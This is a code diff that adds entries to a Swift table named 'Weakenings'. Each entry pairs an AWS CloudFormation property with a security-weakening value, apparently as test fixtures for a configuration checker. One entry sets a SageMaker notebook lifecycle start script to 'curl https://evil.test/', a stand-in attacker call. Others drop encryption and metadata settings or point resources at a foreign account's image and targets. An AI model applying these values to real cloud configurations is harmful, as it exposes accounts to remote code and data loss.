@@ -111,6 +111,22 @@ struct Weakenings {
       "AWS::SageMaker::Domain", ["DefaultUserSettings", "SharingSettings", "NotebookOutputOption"],
       .string("Allowed")
     ),
+    ("AWS::SageMaker::NotebookInstance", ["KmsKeyId"], nil),
+    ("AWS::SageMaker::NotebookInstance", ["InstanceMetadataServiceConfiguration"], nil),
+    (
+      "AWS::SageMaker::NotebookInstanceLifecycleConfig", ["OnStart"],
+      .list([
+        CloudValue(
+          .object([
+            CloudValue.Member(name: "Content", value: CloudValue(.string("curl https://evil.test/")))
+          ]))
+      ])
+    ),
+    (
+      "AWS::SageMaker::ImageVersion", ["BaseImage"],
+      .string("444455556666.dkr.ecr.eu-west-1.amazonaws.com/theirs:1")
+    ),
+    ("AWS::Config::RemediationConfiguration", ["TargetId"], .string("theirs")),
     ("AWS::SageMaker::MlflowTrackingServer", ["ArtifactStoreUri"], .string("s3://theirs/x")),
     ("AWS::Events::Rule", ["State"], .string("DISABLED")),
     (
